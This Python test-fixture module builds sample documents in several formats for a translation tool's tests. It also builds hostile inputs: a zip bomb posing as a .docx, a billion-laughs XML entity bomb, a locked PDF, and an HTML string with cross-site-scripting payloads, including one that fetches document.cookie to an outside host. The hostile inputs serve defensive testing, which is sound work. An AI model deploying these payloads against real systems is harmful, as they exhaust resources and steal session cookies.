"""Sample documents for the translation tests, built here: every format, with tables, lists, code,
subtitles and inline formatting; and the bad files (renamed binaries, zip bombs, locked PDFs)."""
from __future__ import annotations

import io
import zipfile

MARKDOWN = """# Project *guide*

Install the tool with `pip install llmos` and read the [manual](https://example.com/manual).
It needs 2 GB of memory.

## Steps

- Open the **settings** page
- Choose a model
1. Start the server
2. Check the log at /var/log/llmos.log

| Name | Value |
|------|-------|
| Port | 8501 |
| Mode | fast and safe |

```python
print("keep this code")
x = {"a": 1}
```

> The end. Thank you!
"""

SRT = ("1\r\n00:00:01,000 --> 00:00:04,000\r\n<i>Hello there,</i> my friend.\r\nHow are you today?\r\n\r\n"
       "2\r\n00:00:05,000 --> 00:00:06,500\r\n{\\an8}I am fine.\r\n\r\n"
       "3\r\n00:00:07,250 --> 00:00:09,000\r\nSee you at 10 o'clock.\r\n")

HTML = """<!DOCTYPE html>
<html lang="en"><head><title>My page</title>
<style>p { color: red; }</style>
<script>var secret = "Do not translate this"; if (a < b) { alert("no"); }</script></head>
<body>
<h1 class="title">Main &amp; title</h1>
<p>Hello <b>bold</b> world, see <a href="https://example.com/x?a=1&amp;b=2">the link</a>.<br>Next line.</p>
<!-- a comment stays -->
<ul><li>One apple</li><li>Two <code>x = 1</code> pears</li></ul>
<pre>preformatted stays</pre>
<table><tr><td>Cell text</td><td>42</td></tr></table>
</body></html>
"""

TEXT = """Report title

This is a long paragraph that was wrapped at a fixed width by an editor so
that it spans several lines of text; it should be translated as one unit and
wrapped again at the same width.

- first point
- second point
Visit https://example.com/page for 3 more details.
"""


def make_docx() -> bytes:
    from docx import Document

    document = Document()
    document.add_heading("Annual report", 1)
    p = document.add_paragraph("This is ")
    p.add_run("bold").bold = True
    p.add_run(" and ")
    p.add_run("italic").italic = True
    p.add_run(" text. The second sentence is here.")
    document.add_paragraph("First item", style="List Bullet")
    document.add_paragraph("Second item", style="List Number")
    table = document.add_table(rows=2, cols=2)
    for (r, c), text in {(0, 0): "Name", (0, 1): "Value", (1, 0): "Alpha", (1, 1): "Beta gamma"}.items():
        table.cell(r, c).text = text
    document.add_heading("Summary", 2)
    document.add_paragraph("Everything went well.")
    document.sections[0].header.paragraphs[0].text = "Company header"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def make_pdf(pages: list[list[str]]) -> bytes:
    """A minimal PDF with a text layer: each page's lines in Helvetica, top to bottom."""
    objects: list[bytes] = []
    page_ids = []
    n_pages = len(pages)
    font_id = 3 + 2 * n_pages
    for index, lines in enumerate(pages):
        page_id, content_id = 3 + 2 * index, 4 + 2 * index
        page_ids.append(page_id)
        ops = ["BT", "/F1 12 Tf", "14 TL", "72 720 Td"]
        for line in lines:
            escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
            ops.append(f"({escaped}) Tj T*")
        ops.append("ET")
        stream = "\n".join(ops).encode("latin-1")
        objects.append((page_id, f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {content_id} 0 R "
                                 f"/Resources << /Font << /F1 {font_id} 0 R >> >> >>".encode()))
        objects.append((content_id, b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream"))
    objects.append((1, b"<< /Type /Catalog /Pages 2 0 R >>"))
    kids = " ".join(f"{i} 0 R" for i in page_ids)
    objects.append((2, f"<< /Type /Pages /Kids [{kids}] /Count {n_pages} >>".encode()))
    objects.append((font_id, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"))
    objects.sort()
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = {}
    for number, body in objects:
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    count = max(offsets) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % count)
    for number in range(1, count):
        out.write(b"%010d 00000 n \n" % offsets[number])
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count, xref))
    return out.getvalue()


PDF_PAGES = [["Quarterly results", "", "Sales grew in all regions this quarter, and the", "team shipped two releases."],
             ["Second page heading", "", "The outlook is good."]]


def encrypt_pdf(data: bytes, password: str = "secret") -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer.encrypt(password, algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def make_zip_bomb() -> bytes:
    """A .docx-looking zip whose one member unpacks to 300 MB of zeros (it is about 300 KB)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(300):
                member.write(chunk)
    return out.getvalue()


def make_entity_bomb_docx() -> bytes:
    """A real .docx whose document.xml declares a billion-laughs entity (a 10^9-character expansion)."""
    source = zipfile.ZipFile(io.BytesIO(make_docx()))
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{k} "{("&lol%d;" % (k - 1)) * 10}">' for k in range(1, 10))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/document.xml":
                head, _, body = data.partition(b"?>")
                data = (head + b"?>" + f"<!DOCTYPE w:document [{entities}]>".encode() + body).replace(
                    b"Everything went well.", b"&lol9;")
            archive.writestr(item, data)
    return out.getvalue()


# Scripts, event handlers and javascript: links: none of it may reach a segment, all of it comes back as it was.
HOSTILE_HTML = ('<p onclick="alert(\'click\')">Hello <img src=x onerror="steal(document.cookie)"> there '
                '<a href="javascript:evil()">link</a></p><script>fetch("//x/?" + document.cookie)</script>'
                '<svg onload="pwn()"><text>svg text</text></svg><style>body{background:url(javascript:x)}</style>')
